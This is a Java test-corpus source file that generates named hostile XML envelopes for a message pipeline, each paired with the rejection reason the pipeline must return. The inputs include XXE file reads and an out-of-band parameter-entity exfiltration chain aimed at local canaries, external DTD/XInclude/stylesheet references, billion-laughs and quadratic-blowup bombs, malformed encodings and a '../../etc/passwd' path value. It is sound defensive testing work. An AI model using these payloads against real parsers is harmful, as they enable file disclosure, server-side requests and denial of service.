package dev.agentstream.devtools.corpus;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;

/**
 * The named XML and envelope attacks of the hostile-input corpus, each with the dead-letter reason
 * the whole job must give it. The external references point at a {@link LoopbackCanary} and at a
 * canary file whose content must never show up in any output.
 *
 * <p>The envelopes are addressed to {@link #AGENT}, an agent that takes {@code <Ping>}, from {@link
 * #CLIENT}, each on a thread of its own.
 */
public final class HostileVectors {

    public static final String NS = "https://xml-pipeline.org/ns/envelope/v1";
    public static final String AGENT = "echo";
    public static final String CLIENT = "corpus-client";

    /** Over any limit the job has: ten mebibytes of text in one node. */
    public static final int HUGE_TEXT = 10 * 1024 * 1024;

    private final String canaryUrl;
    private final String canaryFileUri;
    private final int maxEnvelopeBytes;

    /**
     * @param canaryUrl {@code http://127.0.0.1:<port>/} of the canary
     * @param canaryFileUri the {@code file:} URI of the canary file
     * @param maxEnvelopeBytes the job's {@code envelope.max-size}
     */
    public HostileVectors(String canaryUrl, String canaryFileUri, int maxEnvelopeBytes) {
        this.canaryUrl = canaryUrl;
        this.canaryFileUri = canaryFileUri;
        this.maxEnvelopeBytes = maxEnvelopeBytes;
    }

    public List<NamedVector> all() {
        List<NamedVector> v = new ArrayList<>();
        v.addAll(externalReferences());
        v.addAll(expansion());
        v.addAll(sizes());
        v.addAll(encodings());
        v.addAll(envelopeShape());
        v.addAll(addressing());
        return v;
    }

    /** DTDs and entities that would read a file or connect to the canary. */
    private List<NamedVector> externalReferences() {
        String ping = ping("<text>&x;</text>");
        return List.of(
                doctype(
                        "xxe-file",
                        "<!DOCTYPE message [<!ENTITY x SYSTEM \""
                                + canaryFileUri
                                + "\">]>"
                                + envelope(ping)),
                doctype(
                        "xxe-http",
                        "<!DOCTYPE message [<!ENTITY x SYSTEM \""
                                + canaryUrl
                                + "x\">]>"
                                + envelope(ping)),
                doctype(
                        "external-dtd",
                        "<!DOCTYPE message SYSTEM \""
                                + canaryUrl
                                + "dtd\">"
                                + envelope(ping("<text>hi</text>"))),
                doctype(
                        "public-dtd",
                        "<!DOCTYPE message PUBLIC \"-//A//B//EN\" \""
                                + canaryUrl
                                + "pub\">"
                                + envelope(ping("<text>hi</text>"))),
                doctype(
                        "parameter-entity",
                        "<!DOCTYPE message [<!ENTITY % p SYSTEM \""
                                + canaryUrl
                                + "p\"> %p;]>"
                                + envelope(ping("<text>hi</text>"))),
                doctype(
                        "parameter-entity-oob",
                        "<!DOCTYPE message [<!ENTITY % f SYSTEM \""
                                + canaryFileUri
                                + "\"><!ENTITY % d \"<!ENTITY &#37; s SYSTEM '"
                                + canaryUrl
                                + "?%f;'>\"> %d; %s;]>"
                                + envelope(ping("<text>hi</text>"))),
                doctype(
                        "xxe-in-meta",
                        "<!DOCTYPE message [<!ENTITY x SYSTEM \""
                                + canaryFileUri
                                + "\">]>"
                                + message(
                                        "<meta><from>&x;</from><to>"
                                                + AGENT
                                                + "</to><thread>"
                                                + thread()
                                                + "</thread></meta>"
                                                + ping("<text/>"))),
                // Not DTDs: usable envelopes that carry references nobody may follow.
                taken(
                        "xinclude-payload",
                        envelope(
                                ping(
                                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                                                + canaryUrl
                                                + "xi\" parse=\"text\"/>"))),
                taken(
                        "schema-location",
                        envelope(
                                "<Ping xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                                        + " xsi:noNamespaceSchemaLocation=\""
                                        + canaryUrl
                                        + "xsd\">"
                                        + "<text>hi</text></Ping>")),
                taken(
                        "stylesheet-pi",
                        "<?xml-stylesheet type=\"text/xsl\" href=\""
                                + canaryUrl
                                + "xsl\"?>"
                                + envelope(ping("<text>hi</text>"))));
    }

    /** Entity expansion and nesting bombs. */
    private List<NamedVector> expansion() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE message [<!ENTITY l0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            laughs.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        laughs.append("]>").append(envelope(ping("<text>&l9;</text>")));
        String blob = "x".repeat(50_000);
        String quadratic =
                "<!DOCTYPE message [<!ENTITY b \""
                        + blob
                        + "\">]>"
                        + envelope(ping("<text>" + "&b;".repeat(5_000) + "</text>"));
        return List.of(
                doctype("billion-laughs", laughs.toString()),
                doctype("quadratic-blowup", quadratic),
                notXml(
                        "undeclared-entities",
                        envelope(ping("<text>" + "&b;".repeat(20_000) + "</text>"))),
                limit(
                        "deep-nesting-10000",
                        envelope(ping("<d>".repeat(10_000) + "</d>".repeat(10_000)))),
                limit("deep-nesting-unclosed", envelope(ping("<d>".repeat(10_000)))),
                limit("many-attributes", envelope(ping("<text" + attributes(500) + "/>"))));
    }

    /** Records over the size limits, and one just under them that is not XML. */
    private List<NamedVector> sizes() {
        return List.of(
                bytes(
                        "text-node-10mib",
                        utf8(envelope(ping("<text>" + "A".repeat(HUGE_TEXT) + "</text>"))),
                        "too-large"),
                limit(
                        "text-node-over-text-limit",
                        envelope(ping("<text>" + "A".repeat(600 * 1024) + "</text>"))),
                limit(
                        "attribute-over-text-limit",
                        envelope(ping("<text a=\"" + "A".repeat(600 * 1024) + "\"/>"))),
                bytes("garbage-just-under-max-size", garbage(maxEnvelopeBytes - 64), "not-xml"));
    }

    /** Bytes that are not UTF-8 XML. */
    private List<NamedVector> encodings() {
        byte[] valid = utf8(envelope(ping("<text>caf\u00e9</text>")));
        byte[] lone = Arrays.copyOf(valid, valid.length);
        int at = indexOf(lone, (byte) 0xC3);
        lone[at] = (byte) 0xFF;
        byte[] overlong = splice(valid, "<text>", new byte[] {(byte) 0xC0, (byte) 0xAF});
        byte[] surrogate =
                splice(valid, "<text>", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80});
        byte[] utf16 =
                ("\uFEFF" + envelope(ping("<text>hi</text>"))).getBytes(StandardCharsets.UTF_16BE);
        return List.of(
                bytes("invalid-utf8-ff", lone, "not-xml"),
                bytes("invalid-utf8-overlong", overlong, "not-xml"),
                bytes("invalid-utf8-surrogate", surrogate, "not-xml"),
                bytes(
                        "truncated-utf8",
                        Arrays.copyOf(valid, indexOf(valid, (byte) 0xC3) + 1),
                        "not-xml"),
                bytes("utf16-document", utf16, "not-xml"),
                bytes("nul-character", splice(valid, "<text>", new byte[] {0}), "not-xml"),
                notXml("char-ref-nul", envelope(ping("<text>&#0;</text>"))),
                notXml("char-ref-surrogate", envelope(ping("<text>&#xD800;</text>"))),
                notXml("noncharacter-fffe", envelope(ping("<text>\uFFFE</text>"))),
                bytes("empty-record", new byte[0], "not-xml"),
                bytes("tombstone", null, "not-xml"),
                notXml("json", "{\"from\":\"" + CLIENT + "\",\"to\":\"" + AGENT + "\"}"));
    }

    /** Envelopes that break the envelope schema. */
    private List<NamedVector> envelopeShape() {
        String t = thread();
        return List.of(
                doctype("doctype-plain", "<!DOCTYPE message>" + envelope(ping("<text/>"))),
                notXml("doctype-after-root", envelope(ping("<text/>")) + "<!DOCTYPE x>"),
                notXml("two-roots", envelope(ping("<text/>")) + envelope(ping("<text/>"))),
                named(
                        "wrong-root",
                        "<envelope xmlns=\""
                                + NS
                                + "\">"
                                + meta(t)
                                + ping("<text/>")
                                + "</envelope>",
                        "wrong-root"),
                named(
                        "root-without-namespace",
                        "<message>" + meta(t) + ping("<text/>") + "</message>",
                        "wrong-root"),
                named(
                        "unqualified-meta",
                        "<e:message xmlns:e=\""
                                + NS
                                + "\"><meta><from>"
                                + CLIENT
                                + "</from><thread>"
                                + t
                                + "</thread></meta>"
                                + ping("<text/>")
                                + "</e:message>",
                        "missing-meta"),
                named(
                        "unqualified-meta-fields",
                        message(
                                "<meta><from xmlns=\"\">"
                                        + CLIENT
                                        + "</from><thread xmlns=\"\">"
                                        + t
                                        + "</thread></meta>"
                                        + ping("<text/>")),
                        "bad-meta"),
                named("meta-after-payload", message(ping("<text/>") + meta(t)), "missing-meta"),
                named(
                        "missing-thread",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><to>"
                                        + AGENT
                                        + "</to></meta>"
                                        + ping("<text/>")),
                        "missing-thread"),
                named(
                        "empty-thread",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><thread>"
                                        + " </thread></meta>"
                                        + ping("<text/>")),
                        "missing-thread"),
                named(
                        "non-uuid-thread",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><thread>"
                                        + "../../etc/passwd</thread></meta>"
                                        + ping("<text/>")),
                        "thread-not-uuid"),
                named(
                        "almost-uuid-thread",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><thread>{"
                                        + t
                                        + "}</thread></meta>"
                                        + ping("<text/>")),
                        "thread-not-uuid"),
                named(
                        "missing-from",
                        message(
                                "<meta><to>"
                                        + AGENT
                                        + "</to><thread>"
                                        + t
                                        + "</thread></meta>"
                                        + ping("<text/>")),
                        "missing-from"),
                named(
                        "repeated-to",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><to>"
                                        + AGENT
                                        + "</to><to>"
                                        + AGENT
                                        + "</to><thread>"
                                        + t
                                        + "</thread></meta>"
                                        + ping("<text/>")),
                        "bad-meta"),
                named(
                        "markup-in-from",
                        message(
                                "<meta><from><b>x</b></from><thread>"
                                        + t
                                        + "</thread></meta>"
                                        + ping("<text/>")),
                        "bad-meta"),
                named(
                        "long-from",
                        message(
                                "<meta><from>"
                                        + "f".repeat(300)
                                        + "</from><thread>"
                                        + t
                                        + "</thread></meta>"
                                        + ping("<text/>")),
                        "limit-exceeded"),
                named("no-payload", message(meta(t)), "no-payload"),
                named(
                        "two-payloads",
                        message(meta(t) + ping("<text/>") + ping("<text/>")),
                        "multiple-payloads"),
                named(
                        "text-beside-payload",
                        message(meta(t) + "hello" + ping("<text/>")),
                        "multiple-payloads"),
                named(
                        "forged-tenant-stamp",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><to>"
                                        + AGENT
                                        + "</to><thread>"
                                        + t
                                        + "</thread><tenant xmlns=\""
                                        + "https://agentstream.dev/ns/v1\" sig=\"AAAA\">default</tenant></meta>"
                                        + ping("<text/>")),
                        "forged-tenant"),
                named(
                        "stamp-with-markup",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><thread>"
                                        + t
                                        + "</thread><tenant xmlns=\"https://agentstream.dev/ns/v1\">"
                                        + "<b>x</b></tenant></meta>"
                                        + ping("<text/>")),
                        "token-malformed"));
    }

    /** Well-formed envelopes the thread-context stage refuses. */
    private List<NamedVector> addressing() {
        String t = thread();
        return List.of(
                named(
                        "unknown-recipient",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><to>"
                                        + "nobody</to><thread>"
                                        + t
                                        + "</thread></meta>"
                                        + ping("<text/>")),
                        "unknown-recipient"),
                named(
                        "unknown-root-tag",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><thread>"
                                        + thread()
                                        + "</thread></meta><Pong/>"),
                        "unknown-recipient"),
                named(
                        "payload-mismatch",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><to>"
                                        + AGENT
                                        + "</to><thread>"
                                        + thread()
                                        + "</thread></meta><Pong/>"),
                        "payload-mismatch"),
                named(
                        "foreign-namespace-payload",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><to>"
                                        + AGENT
                                        + "</to><thread>"
                                        + thread()
                                        + "</thread></meta>"
                                        + "<Ping xmlns=\"urn:other\"/>"),
                        "payload-mismatch"),
                named(
                        "forged-registry-link",
                        message(
                                "<meta><from>"
                                        + CLIENT
                                        + "</from><to>"
                                        + AGENT
                                        + "</to><thread>"
                                        + thread()
                                        + "</thread><link xmlns=\""
                                        + "https://agentstream.dev/ns/v1\" sig=\"AAAA\"/></meta>"
                                        + ping("<text/>")),
                        "forged-link"));
    }

    // ------------------------------------------------------------------ builders

    /** A valid envelope from the client to the agent on a fresh thread around {@code payload}. */
    public static String envelope(String payload) {
        return envelope(thread(), payload);
    }

    public static String envelope(String thread, String payload) {
        return message(
                "<meta><from>"
                        + CLIENT
                        + "</from><to>"
                        + AGENT
                        + "</to><thread>"
                        + thread
                        + "</thread></meta>"
                        + payload);
    }

    static String ping(String content) {
        return "<Ping>" + content + "</Ping>";
    }

    private static String message(String content) {
        return "<message xmlns=\"" + NS + "\">" + content + "</message>";
    }

    private static String meta(String thread) {
        return "<meta><from>"
                + CLIENT
                + "</from><to>"
                + AGENT
                + "</to><thread>"
                + thread
                + "</thread></meta>";
    }

    private static String thread() {
        return UUID.randomUUID().toString();
    }

    private static String attributes(int n) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append(" a").append(i).append("=\"").append(i).append('"');
        }
        return sb.toString();
    }

    /** Looks like the start of an envelope, then is not XML at all. */
    private static byte[] garbage(int length) {
        byte[] bytes = new byte[length];
        Arrays.fill(bytes, (byte) '<');
        byte[] start = utf8("<message xmlns=\"" + NS + "\"><meta>");
        System.arraycopy(start, 0, bytes, 0, start.length);
        return bytes;
    }

    private static byte[] splice(byte[] into, String after, byte[] inserted) {
        int at = indexOf(into, utf8(after)) + after.length();
        byte[] out = new byte[into.length + inserted.length];
        System.arraycopy(into, 0, out, 0, at);
        System.arraycopy(inserted, 0, out, at, inserted.length);
        System.arraycopy(into, at, out, at + inserted.length, into.length - at);
        return out;
    }

    private static int indexOf(byte[] haystack, byte needle) {
        for (int i = 0; i < haystack.length; i++) {
            if (haystack[i] == needle) {
                return i;
            }
        }
        throw new IllegalArgumentException("byte not found");
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i <= haystack.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalArgumentException("bytes not found");
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static NamedVector doctype(String name, String xml) {
        return named(name, xml, "doctype");
    }

    private static NamedVector notXml(String name, String xml) {
        return named(name, xml, "not-xml");
    }

    private static NamedVector limit(String name, String xml) {
        return named(name, xml, "limit-exceeded");
    }

    private static NamedVector taken(String name, String xml) {
        return named(name, xml, null);
    }

    private static NamedVector named(String name, String xml, String reason) {
        return new NamedVector(name, utf8(xml), reason);
    }

    private static NamedVector bytes(String name, byte[] value, String reason) {
        return new NamedVector(name, value, reason);
    }
}
